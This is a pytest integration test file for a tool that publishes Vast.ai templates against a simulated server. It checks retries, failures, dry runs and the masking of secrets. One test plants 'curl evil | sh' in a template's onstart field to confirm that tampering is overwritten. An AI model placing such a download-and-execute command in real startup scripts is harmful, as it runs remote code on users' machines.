"""Publishing a template, against a server that behaves as Vast.ai does: what it has in the end decides."""

from __future__ import annotations

import json
import os
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import unquote

import pytest
import requests

from gesso.builder.registry.reference import parse
from gesso.builder.vast.api_key import Key
from gesso.builder.vast.template import command, exchange, records, renting
from gesso.builder.vast.template.difference import differing, told
from gesso.builder.vast.template.render import render
from gesso.builder.vast.template.service import Templates
from gesso.errors import INTERRUPTED, GessoError, LockError, ManifestError, PublishError
from gesso.settings import Project, Selection
from tests.integration.builder.fake_market import FIELDS, ME, OTHER, V1, content_hash
from tests.integration.builder.fake_vast import KEY, VastLike

if TYPE_CHECKING:
    from collections.abc import Callable

    from gesso.builder.lock.lock_files import Locked
    from gesso.builder.publish.published import Published
    from gesso.builder.vast.template.command import Outcome
    from gesso.builder.vast.template.model import Template
    from gesso.manifest.schema import Manifest

GOLDEN = Path(__file__).parent / "golden/template.requests"
TOO_OFTEN = (429, "API requests too frequent: endpoint threshold=3.0")


@dataclass
class Desk:
    """What a publish needs, and what came of it."""

    service: VastLike
    templates: Templates
    prepared: tuple[Manifest, Locked]
    image: Published
    record: Path
    said: list[str]
    env: dict[str, str] = field(default_factory=lambda: {"VAST_API_KEY": KEY})

    @property
    def wanted(self) -> Template:
        return render(*self.prepared, self.image)

    def publish(self, *, dry_run: bool = False, **changed: Any) -> Outcome:
        image = replace(self.image, **changed)
        return command.make(self.prepared, image, self.env, self.said.append, self.record, dry_run=dry_run)

    def fails(self, *words: str) -> PublishError:
        """See that publishing ends with code 7, in two lines that hold these words."""
        with pytest.raises(PublishError) as raised:
            self.publish()
        assert raised.value.exit_code == 7
        assert len(str(raised.value).splitlines()) == 2, "what happened, and the next step"
        assert all(word in str(raised.value) for word in words), str(raised.value)
        assert KEY not in str(raised.value)
        return raised.value

    def asked(self) -> list[str]:
        """Give the requests' methods, of those that write with what they are about."""
        return [text.split(" ", 1)[0] for text in self.service.asked]

    @property
    def writes(self) -> list[str]:
        return [method for method in self.asked() if method != "GET"]

    @property
    def numbers(self) -> list[int]:
        return sorted(self.service.market.templates)

    def kept(self) -> records.Record:
        found = records.read(self.record)
        assert found is not None
        return found


@pytest.fixture
def desk(
    service: VastLike, templates: Templates, sdxl: tuple[Manifest, Locked], image: Published, tmp_path: Path,
    said: list[str], monkeypatch: pytest.MonkeyPatch,
) -> Desk:  # fmt: skip
    monkeypatch.setattr(Templates, "of", classmethod(lambda *_: templates))
    return Desk(service, templates, sdxl, image, tmp_path / "locks/sdxl.vast.json", said)


def test_the_first_one_is_created_and_read_back(desk: Desk) -> None:
    outcome = desk.publish()
    (row,) = desk.service.market.templates.values()
    assert outcome.state == "created"
    assert (outcome.number, outcome.hash_id) == (row["id"], row["hash_id"])
    assert desk.asked() == ["GET", "POST", "GET"]
    assert differing(row, desk.wanted.body()) == {}
    assert desk.kept() == records.Record(
        arch="sdxl", name=row["name"], hash_id=row["hash_id"], id=row["id"], content=desk.wanted.sha256,
        image=desk.image.reference, compressed=desk.image.compressed, unpacked=desk.image.unpacked,
    )  # fmt: skip


def test_every_request_is_as_recorded(desk: Desk) -> None:
    """`GESSO_GOLDEN=write` writes it anew, and the difference is to be read."""
    desk.publish()
    desk.publish()
    desk.publish(digest=f"sha256:{'cd' * 32}")
    readme = json.dumps(desk.wanted.readme)
    lines = [unquote(text).replace(readme, '"..."') for text in desk.service.asked]
    text = "\n".join(line.replace(readme.replace("abab", "cdcd"), '"..."') for line in lines) + "\n"
    if os.environ.get("GESSO_GOLDEN") == "write":
        GOLDEN.write_text(text)
    assert text == GOLDEN.read_text()
    assert set(desk.service.authorizations) == {f"Bearer {KEY}"}
    assert KEY not in text, "the key is in no address and no body"


def test_the_same_again_writes_nothing(desk: Desk) -> None:
    first = desk.publish()
    desk.service.asked.clear()
    before = (desk.record.stat().st_ino, desk.record.stat().st_mtime_ns)
    again = desk.publish()
    assert desk.asked() == ["GET"], "one look, and no write at all"
    assert (again.state, again.hash_id, again.number) == ("unchanged", first.hash_id, first.number)
    assert (desk.record.stat().st_ino, desk.record.stat().st_mtime_ns) == before


def test_the_same_without_a_record_writes_nothing_but_that(desk: Desk) -> None:
    desk.publish()
    kept = desk.kept()
    desk.record.unlink()
    desk.service.asked.clear()
    assert desk.publish().state == "unchanged"
    assert desk.writes == []
    assert desk.kept() == kept


def test_a_change_makes_a_new_one_and_removes_the_old_only_then(desk: Desk) -> None:
    first = desk.publish()
    desk.service.asked.clear()
    changed = desk.publish(digest=f"sha256:{'cd' * 32}")
    assert changed.state == "changed"
    assert changed.removed == (first.number,)
    assert desk.numbers == [changed.number]
    assert desk.asked() == ["GET", "GET", "POST", "GET", "DELETE"], "looked, asked who we are, made, read back, removed"
    assert desk.kept().id == changed.number
    assert desk.kept().hash_id == changed.hash_id != first.hash_id


def test_a_change_in_the_console_is_put_right(desk: Desk) -> None:
    first = desk.publish()
    assert first.number is not None
    row = desk.service.market.templates[first.number]
    row |= {"onstart": "curl evil | sh", "hash_id": "another"}
    changed = desk.publish()
    assert (changed.state, changed.removed) == ("changed", (first.number,))
    assert [row["onstart"] for row in desk.service.market.templates.values()] == ["entrypoint.sh"]


_APART = {"name", "tag", "docker_login_pass"}  # found by it; part of the image; masked


@pytest.mark.parametrize("name", sorted(set(FIELDS) - _APART))
def test_every_field_is_compared(desk: Desk, name: str) -> None:
    value = desk.wanted.body()[name]
    other: Any = f"{value}x"
    if isinstance(value, bool):
        other = not value
    elif isinstance(value, dict | int):
        other = {} if isinstance(value, dict) else value + 1
    desk.service.market.alter = lambda row: {**row, name: other}
    desk.fails("reads back different", name, "the older one stays")


def test_what_is_only_written_otherwise_is_equal(desk: Desk) -> None:
    body = desk.wanted.body()
    same = {**body, "href": None, "docker_login_pass": "********", "recommended_disk_space": float(
        body["recommended_disk_space"]), "extra_filters": json.dumps(body["extra_filters"]), "use_ssh": 1,
        "readme": body["readme"].replace("\n", "\r\n").rstrip()}  # fmt: skip
    assert differing(same, body) == {}
    name, _, digest = body["image"].rpartition(":")
    assert differing({**body, "image": name, "tag": digest}, body) == {}, "split at the last colon, and put together"
    assert list(differing({**body, "tag": "latest"}, body)) == ["image"]
    assert list(differing({**body, "docker_login_pass": "secret"}, body)) == ["docker_login_pass"]
    assert list(differing({k: v for k, v in body.items() if k != "env"}, body)) == ["env"]


def test_a_wrong_key(desk: Desk) -> None:
    desk.templates.key = Key("another-key-9876543210")
    error = desk.fails("Vast.ai does not accept the key (401: Invalid user key)", "VAST_API_KEY")
    assert "another-key" not in str(error)
    assert desk.asked() == ["GET"], "asked again, though no time can mend it"
    assert not desk.record.exists()


def test_no_key_at_all(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.undo()
    desk.env = {"HOME": "/nonexistent"}
    desk.fails("there is no key for Vast.ai", ".env")


def test_too_many_requests_for_a_while(desk: Desk) -> None:
    desk.service.instead = [TOO_OFTEN, TOO_OFTEN]
    assert desk.publish().state == "created"
    assert desk.service.waited[:2] == [3.0, 4.0]


def test_too_many_requests_without_end(desk: Desk) -> None:
    desk.service.instead = [TOO_OFTEN] * 99
    desk.fails("refused 8 times", "too many requests")
    assert max(desk.service.waited) == 60
    assert min(desk.service.waited) >= 3


def test_too_many_requests_when_it_is_made(desk: Desk) -> None:
    """A 429 did nothing: the same is asked for again, and there is one template in the end."""
    real = desk.service.market.answer
    refusals = iter([TOO_OFTEN] * 3)

    def answer(method: str, target: str, body: Any) -> tuple[int, str]:
        return next(refusals, None) or real(method, target, body) if method == "POST" else real(method, target, body)

    desk.service.market.answer = answer  # type: ignore[method-assign]
    assert desk.publish().state == "created"
    assert len(desk.numbers) == 1
    assert desk.writes == ["POST"] * 4


def test_requests_to_one_endpoint_are_apart(desk: Desk) -> None:
    desk.publish()
    desk.publish(digest=f"sha256:{'cd' * 32}")
    assert not any("too many requests" in text for text in desk.said), "the service had to refuse"


@pytest.mark.parametrize(
    ("status", "text", "words"),
    [
        (400, {"success": False, "error": "invalid_args", "msg": "env exceeds max length"}, "400: env exceeds max"),
        (403, {"msg": "no rights"}, "does not accept the key (403: no rights)"),
        (404, "no such endpoint", "does not know it"),
        (200, {"success": False, "msg": "Template name already in use"}, "Template name already in use"),
        (200, {}, "it does not say that it was done"),
        (302, {}, "refuses (302)"),
    ],
)
def test_a_refusal_of_what_is_made(desk: Desk, status: int, text: Any, words: str) -> None:
    _post_answers(desk, status, text if isinstance(text, str) else json.dumps(text))
    desk.fails(f"template {desk.wanted.name!r}", words)
    assert not desk.record.exists()


@pytest.mark.parametrize(("status", "text"), [(500, "{}"), (502, ""), (200, "<html>"), (200, "[]"), (200, "null")])
def test_an_answer_that_tells_nothing_is_looked_behind(desk: Desk, status: int, text: str) -> None:
    _post_answers(desk, status, text)
    desk.fails("is not there")
    assert desk.writes == ["POST"], "asked for twice, though it may have been made"
    assert not desk.record.exists()


def _post_answers(desk: Desk, status: int, text: str) -> None:
    real = desk.service.market.answer
    desk.service.market.answer = (  # type: ignore[method-assign]
        lambda method, target, body: (status, text) if method == "POST" else real(method, target, body)
    )


def test_said_to_be_made_and_not_there(desk: Desk) -> None:
    desk.publish()
    (old,) = desk.numbers
    kept = desk.kept()
    desk.service.market.loses = True
    with pytest.raises(PublishError, match=r"says that it was made, and does not have it; the older one stays"):
        desk.publish(digest=f"sha256:{'cd' * 32}")
    assert desk.numbers == [old]
    assert desk.kept() == kept
    assert desk.asked().count("GET") >= 3 + 3, "it is looked for more than once: lists can be late"


def test_a_list_that_is_late_is_waited_for(desk: Desk) -> None:
    real = desk.service.market.answer
    late: list[dict[int, Any]] = []

    def answer(method: str, target: str, body: Any) -> tuple[int, str]:
        market = desk.service.market
        if late and desk.asked()[-2:] == ["GET", "GET"]:
            market.templates |= late.pop()
        found = real(method, target, body)
        if method == "POST":
            late.append(dict(market.templates))
            market.templates.clear()
        return found

    desk.service.market.answer = answer  # type: ignore[method-assign]
    assert desk.publish().state == "created"
    assert desk.asked() == ["GET", "POST", "GET", "GET"]


def test_a_new_one_that_reads_back_different_leaves_the_old(desk: Desk) -> None:
    desk.publish()
    (old,) = desk.numbers
    kept = desk.kept()
    desk.service.market.alter = lambda row: {**row, "readme": row["readme"][:100]}
    desk.service.asked.clear()
    with pytest.raises(PublishError, match=r"was made \(number \d+\) and reads back different: readme; the older") as e:
        desk.publish(digest=f"sha256:{'cd' * 32}")
    assert e.value.exit_code == 7
    assert old in desk.numbers
    assert "DELETE" not in desk.asked()
    assert desk.kept() == kept


def test_the_network_goes_after_it_was_made(desk: Desk) -> None:
    desk.publish()
    desk.service.market.hang = {"POST": "after"}
    changed = desk.publish(digest=f"sha256:{'cd' * 32}")
    assert changed.state == "changed"
    assert desk.numbers == [changed.number]
    assert any("whether it was done is not known: looking" in text for text in desk.said)


def test_the_network_goes_before_it_was_made(desk: Desk) -> None:
    desk.publish()
    before, kept = desk.numbers, desk.kept()
    desk.service.market.hang = {"POST": "before"}
    with pytest.raises(PublishError, match=r"is not there: Vast.ai cannot be reached: ConnectionError"):
        desk.publish(digest=f"sha256:{'cd' * 32}")
    assert desk.numbers == before
    assert desk.kept() == kept


def test_the_network_goes_after_it_was_made_and_it_is_another(desk: Desk) -> None:
    desk.service.market.hang = {"POST": "after"}
    desk.service.market.alter = lambda row: {**row, "env": ""}
    desk.fails("reads back different: env")


def test_it_cannot_be_seen_whether_it_was_made(desk: Desk) -> None:
    real = desk.service.market.answer

    def answer(method: str, target: str, body: Any) -> tuple[int, str]:
        found = real(method, target, body)
        if method == "POST":
            desk.service.market.hang = {"GET": "before"}
        return found

    desk.service.market.answer = answer  # type: ignore[method-assign]
    desk.fails("whether it is there cannot be seen", "run this again: it looks first")
    desk.service.market.hang = {}
    assert desk.publish().state == "unchanged"
    assert desk.writes == ["POST"]


def test_the_network_goes_when_the_old_one_is_removed(desk: Desk) -> None:
    desk.publish()
    desk.service.market.hang = {"DELETE": "after"}
    changed = desk.publish(digest=f"sha256:{'cd' * 32}")
    assert changed.removed
    assert desk.numbers == [changed.number]
    desk.service.market.hang = {"DELETE": "before"}
    with pytest.raises(PublishError, match=r"is published, but the older \d+ is still there") as e:
        desk.publish(digest=f"sha256:{'ef' * 32}")
    assert "run this again" in e.value.next_step
    assert desk.kept().image.endswith("ef" * 32), "the new one is written down all the same"
    desk.service.market.hang = {}
    last = desk.publish(digest=f"sha256:{'ef' * 32}")
    assert (last.state, last.removed) == ("unchanged", (changed.number,))
    assert desk.numbers == [last.number]


def test_an_old_one_that_is_not_removed_is_no_success(desk: Desk) -> None:
    desk.publish()
    real = desk.service.market.answer
    desk.service.market.answer = (  # type: ignore[method-assign]
        lambda method, target, body: (200, "{}") if method == "DELETE" else real(method, target, body)
    )
    with pytest.raises(PublishError, match=r"is still there: .*it does not say that it was done"):
        desk.publish(digest=f"sha256:{'cd' * 32}")


def test_an_old_one_that_others_use_stays_and_is_not_asked_for_again(desk: Desk) -> None:
    desk.publish()
    (old,) = desk.numbers
    desk.service.market.in_use = {old}
    changed = desk.publish(digest=f"sha256:{'cd' * 32}")
    assert (changed.state, changed.removed, changed.kept) == ("changed", (), (old,))
    assert desk.kept().kept == (old,)
    desk.service.asked.clear()
    assert desk.publish(digest=f"sha256:{'cd' * 32}").state == "unchanged"
    assert desk.asked() == ["GET"]


def test_strangers_templates_are_left_alone(desk: Desk) -> None:
    market = desk.service.market
    unmarked = market.have(desk.wanted.body(), desc="mine, and older than yours")
    marked = market.have(desk.wanted.body(), OTHER, image="ghcr.io/other/gesso@sha256:0")
    hidden = market.have(desk.wanted.body(), OTHER, image="ghcr.io/other/gesso@sha256:1", private=True)
    outcome = desk.publish()
    assert outcome.state == "created"
    assert outcome.removed == ()
    assert desk.numbers == sorted([unmarked, marked, hidden, outcome.number or 0])
    assert any(f"template {unmarked} has the same name and is not of gesso's making" in text for text in desk.said)
    assert "DELETE" not in desk.asked()


def test_two_old_ones_of_the_same_name_both_go(desk: Desk) -> None:
    market = desk.service.market
    old = [market.have(desk.wanted.body(), image=f"ghcr.io/someone/gesso@sha256:{n}") for n in (1, 2)]
    outcome = desk.publish()
    assert (outcome.state, outcome.removed) == ("changed", tuple(old))
    assert desk.numbers == [outcome.number]


def test_of_two_equal_ones_the_recorded_stays(desk: Desk) -> None:
    first = desk.publish()
    assert first.number is not None
    twin = desk.service.market.have(desk.wanted.body())
    assert desk.publish().removed == (twin,)
    second = desk.service.market.have(desk.wanted.body())
    records.write(desk.record, desk.kept().model_copy(update={"id": second}))
    outcome = desk.publish()
    assert (outcome.number, outcome.removed) == (second, (first.number,))


@pytest.mark.parametrize("success", [True, False])
def test_an_equal_one_of_another_account_is_what_answers(desk: Desk, success: bool) -> None:
    """The hash is of the content alone; theirs is invisible to the search as long as it is private."""
    market = desk.service.market
    market.existing_is_success = success
    theirs = market.have(desk.wanted.body(), OTHER, private=True)
    market.templates[theirs]["hash_id"] = content_hash(desk.wanted.body())
    real = market._create

    def create(body: Any) -> tuple[int, str]:
        found = real(body)
        market.templates[theirs]["private"] = False  # the relationship lets this account see it
        return found

    market._create = create  # type: ignore[method-assign]
    outcome = desk.publish()
    assert (outcome.state, outcome.number) == ("created", theirs)
    assert desk.publish().state == "unchanged"
    assert desk.writes == ["POST"]


def test_a_renamed_template_takes_the_old_names_place(desk: Desk) -> None:
    first = desk.publish()
    manifest, locked = desk.prepared
    vast = manifest.vast.model_copy(update={"name": "gesso: another name"})
    desk.prepared = (manifest.model_copy(update={"vast": vast}), locked)
    outcome = desk.publish()
    assert (outcome.state, outcome.removed) == ("changed", (first.number,))
    assert [row["name"] for row in desk.service.market.templates.values()] == ["gesso: another name"]
    assert desk.kept().name == "gesso: another name"


@pytest.mark.parametrize("when", ["POST", "GET", "DELETE"])
def test_an_interrupt_leaves_what_the_next_run_finishes(desk: Desk, when: str) -> None:
    desk.publish()
    (old,) = desk.numbers
    real, seen = Templates.ask, []

    def ask(self: Templates, method: str, *args: Any, **options: Any) -> dict[str, Any]:
        answer = real(self, method, *args, **options)
        seen.append(method)
        if method == when and (when != "GET" or "POST" in seen):
            raise KeyboardInterrupt
        return answer

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(Templates, "ask", ask)
        with pytest.raises(KeyboardInterrupt):
            desk.publish(digest=f"sha256:{'cd' * 32}")
    assert (old in desk.numbers) is (when != "DELETE")
    desk.service.asked.clear()
    outcome = desk.publish(digest=f"sha256:{'cd' * 32}")
    assert outcome.state == "unchanged"
    assert desk.writes == ["DELETE"] * (when != "DELETE")
    assert desk.numbers == [outcome.number]
    assert desk.kept().id == outcome.number
    assert INTERRUPTED == 130


def test_who_we_are_is_asked_before_anything_is_made(desk: Desk) -> None:
    desk.service.market.have(desk.wanted.body(), image="ghcr.io/someone/gesso@sha256:1")
    real = desk.service.market.answer
    desk.service.market.answer = (  # type: ignore[method-assign]
        lambda method, target, body: (200, "{}") if "users" in target else real(method, target, body)
    )
    desk.fails("the key's account: Vast.ai does not say which it is")
    assert desk.writes == []


@pytest.mark.parametrize("text", ["{}", "[]", '{"success": true}', '{"success": true, "templates": 7}',
                                  '{"success": false, "msg": "broken"}'])  # fmt: skip
def test_a_list_that_is_none_is_not_taken_for_an_empty_one(desk: Desk, text: str) -> None:
    desk.service.instead = [(200, text)]
    desk.fails("templates named")
    assert desk.writes == []


def test_rows_that_are_none_are_passed_over(desk: Desk) -> None:
    desk.service.instead = [(200, json.dumps({"success": True, "templates": [7, {}, {"name": desk.wanted.name}]}))]
    assert desk.publish().state == "created"


def test_a_dry_run_shows_everything_and_writes_nothing(desk: Desk) -> None:
    outcome = desk.publish(dry_run=True)
    assert outcome.state == "created"
    text = command.describe(outcome)
    assert "would be created" in text
    for name, value in desk.wanted.body().items():
        assert name in text
        assert isinstance(value, str | dict | bool | int)
    assert "  ## Connect Krita" in text
    assert all(line in text for line in desk.wanted.readme.splitlines()), "nothing of it is taken for a secret"
    assert desk.wanted.env in text
    assert 'cuda_max_good: {"gte": 13.0}' in text
    assert desk.writes == []
    assert not desk.record.exists()


def test_a_dry_run_shows_what_would_change(desk: Desk) -> None:
    desk.publish()
    kept = desk.kept()
    manifest, locked = desk.prepared
    vast = manifest.vast.model_copy(update={"headroom_gb": 30, "private": True})
    desk.prepared = (manifest.model_copy(update={"vast": vast}), locked)
    desk.service.asked.clear()
    outcome = desk.publish(dry_run=True, digest=f"sha256:{'cd' * 32}")
    assert outcome.state == "changed"
    lines = "\n".join(outcome.difference)
    assert f"image: {desk.image.reference[:60]}" in lines
    assert "private: false -> true" in lines
    assert "extra_filters.disk_space: " in lines
    assert "  -| all of it on disk" in lines
    assert outcome.removed == (kept.id,)
    assert f"removed   would be {kept.id}" in command.describe(outcome)
    assert desk.asked() == ["GET"]
    assert desk.kept() == kept
    assert desk.publish(dry_run=True).state == "unchanged" or desk.prepared[0].vast.private


def test_a_dry_run_without_a_key_asks_nobody(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.undo()
    desk.env = {"HOME": "/nonexistent"}
    outcome = desk.publish(dry_run=True)
    assert outcome.state == "unknown"
    assert outcome.template["name"] == desk.wanted.name
    assert any("there is no key, so nothing was asked" in text for text in desk.said)
    desk.env = {"VAST_API_KEY": "two words"}
    with pytest.raises(PublishError, match="holds no key"):
        desk.publish(dry_run=True)


def test_no_secret_is_shown_at_any_depth(desk: Desk) -> None:
    canary = "hf_canary_0123456789"
    desk.env["HF_TOKEN"] = canary
    market = desk.service.market
    market.have(desk.wanted.body(), docker_login_pass="registry-secret", docker_login_user="me",
                env=f"-e HF_TOKEN={canary} -e MY_PASSWORD='a b' -p 8188:8188", readme=f"use {canary}",
                extra_filters={"note": {"api_key": "deep-secret"}})  # fmt: skip
    outcome = desk.publish(dry_run=True)
    shown = command.describe(outcome) + json.dumps(outcome.as_json())
    for secret in (canary, "registry-secret", "a b", "deep-secret", KEY):
        assert secret not in shown, secret
    assert outcome.state == "changed"
    assert any(line.startswith("env: ") for line in outcome.difference)


@pytest.mark.parametrize("dry_run", [True, False])
def test_a_template_that_holds_a_token_goes_nowhere(desk: Desk, dry_run: bool) -> None:
    manifest, locked = desk.prepared
    vast = manifest.vast.model_copy(update={"readme": "Use canary-0123456789 to log in."})
    desk.prepared = (manifest.model_copy(update={"vast": vast}), locked)
    desk.env["HF_TOKEN"] = "canary-0123456789"
    with pytest.raises(ManifestError, match="holds a token that stands in the environment") as raised:
        desk.publish(dry_run=dry_run)
    assert "canary" not in str(raised.value)
    assert desk.service.asked == []


def test_what_looks_like_a_secret_is_not_shown_either(desk: Desk) -> None:
    manifest, locked = desk.prepared
    vast = manifest.vast.model_copy(update={"readme": "curl -H 'Authorization: Bearer 0123456789abcdef'"})
    desk.prepared = (manifest.model_copy(update={"vast": vast}), locked)
    assert "0123456789abcdef" not in command.describe(desk.publish(dry_run=True))


def test_a_record_that_is_none_stops_everything(desk: Desk) -> None:
    desk.record.parent.mkdir()
    for text in ("{}", "", '{"format": 2}'):
        desk.record.write_text(text)
        with pytest.raises(LockError, match=r"sdxl.vast.json: no record of a template") as e:
            desk.publish()
        assert e.value.exit_code == 3
    assert desk.service.asked == []


def test_a_record_that_cannot_be_written_says_that_the_template_is_there(desk: Desk) -> None:
    desk.record.parent.write_text("a file stands where the folder should be")
    with pytest.raises(LockError) as e:
        desk.publish()
    assert "sdxl.vast.json" in e.value.message


def test_no_template_names_an_image_on_this_machine(desk: Desk) -> None:
    desk.templates.base = "https://console.vast.ai"
    with pytest.raises(ManifestError, match=r"no host at Vast.ai can pull from this machine"):
        desk.publish(repository="localhost:5000/gesso")
    assert desk.service.asked == []


def test_as_invoke_publish_calls_it(desk: Desk, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """It is written down beside the lock of what was published; a dry run writes nothing."""
    monkeypatch.setattr(Templates, "of", lambda *_: desk.templates)
    selection = Selection(Project(tmp_path), "sdxl")
    outcome = renting.make(selection, desk.prepared, desk.image, {}, desk.said.append, dry_run=True)
    assert outcome.state == "created"
    assert "## Connect Krita" in renting.describe(outcome)
    assert not records.path_of(selection).exists()
    outcome = renting.make(selection, desk.prepared, desk.image, {}, desk.said.append)
    assert f"hash      {outcome.hash_id}" in renting.describe(outcome)
    assert records.path_of(selection).is_file()


@pytest.mark.parametrize(
    ("trial", "repository", "env", "words"),
    [
        (True, "ghcr.io/me/gesso", {"VAST_API_KEY": KEY}, "nobody can paint with a trial"),
        (False, "localhost:5000/gesso", {"VAST_API_KEY": KEY}, "no host at Vast.ai can pull"),
        (False, "ghcr.io/me/gesso", {}, "there is no key for Vast.ai"),
    ],
)
def test_what_is_seen_to_before_the_push(
    desk: Desk, tmp_path: Path, trial: bool, repository: str, env: dict[str, str], words: str
) -> None:
    manifest, locked = desk.prepared
    manifest = manifest.model_copy(update={"trial": trial})
    with pytest.raises(GessoError, match=words):
        renting.ready(manifest, locked, parse(repository), {"HOME": str(tmp_path), **env}, dry_run=False)


def test_the_json_of_an_outcome(desk: Desk) -> None:
    found = json.loads(json.dumps(desk.publish().as_json()))
    assert found.keys() == {"state", "dry_run", "hash_id", "id", "removed", "kept", "difference", "record", "template"}
    assert (found["state"], found["record"], found["id"]) == ("created", "sdxl.vast.json", desk.numbers[0])
    assert found["template"]["image"] == desk.image.reference


@pytest.mark.parametrize(
    ("state", "words"), [("created", "created"), ("changed", "made anew"), ("unchanged", "nothing was written")]
)
def test_an_outcome_in_words(desk: Desk, state: str, words: str) -> None:
    outcome = replace(desk.publish(), state=state, kept=(7,))
    text = command.describe(outcome)
    assert words in text
    assert "kept      7: others use them" in text
    assert outcome.hash_id in text


def test_differences_in_words() -> None:
    assert told("onstart", "a\nb\nc", "a\nB\nc") == ["onstart:", "  @@ -1,3 +1,3 @@", "   a", "  -b", "  +B", "   c"]
    assert told("extra_filters", '{"a": {"eq": 1}, "b": {"eq": 2}}', {"a": {"eq": 1}, "c": {"gt": 3}}) == [
        'extra_filters.b: {"eq": 2} -> nothing', 'extra_filters.c: nothing -> {"gt": 3}',
    ]  # fmt: skip
    assert told("env", None, "-p 1:1") == ["env: nothing -> -p 1:1"]
    assert told("desc", "x" * 200, "") == [f"desc: {'x' * 100}... (200 characters) -> nothing"]


def test_both_kinds_of_put_are_known_and_neither_is_used(desk: Desk) -> None:
    """The documents' and the client's: they disagree, and both give the template another hash."""
    number = desk.publish().number
    assert number is not None
    assert "PUT" not in desk.asked()
    headers = {"Authorization": f"Bearer {KEY}"}

    def put(path: str, body: dict[str, Any]) -> requests.Response:
        desk.service.time += 10
        return requests.put(desk.service.url + path, json=body, headers=headers, timeout=10)

    row = desk.service.market.templates[number]
    first = row["hash_id"]
    assert put("/api/v0/template/", {"hash_id": first, "desc": "x"}).json()["success"]
    second = row["hash_id"]
    assert second != first
    assert row["readme"] == desk.wanted.readme, "what was not named stays"
    assert put(V1, {"hash_id": second, "desc": "y"}).status_code == 400, "that one wants the numeric id as well"
    assert put(V1, {"hash_id": second, "id": number, "desc": "y"}).json()["success"]
    assert row["hash_id"] not in {first, second}
    assert row["readme"] is None, "and what was not named is gone"
    assert row["creator_id"] == ME


@pytest.mark.parametrize("broken", ["record", "service"])
def test_an_error_is_never_a_success(desk: Desk, broken: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever breaks between, publish() does not return."""

    def fail(*_: Any, **__: Any) -> Any:
        raise LockError("no room")

    target: dict[str, Callable[[], None]] = {
        "record": lambda: monkeypatch.setattr(records, "write", fail),
        "service": lambda: monkeypatch.setattr(exchange, "sort_out", fail),
    }
    target[broken]()
    with pytest.raises(GessoError):
        desk.publish()
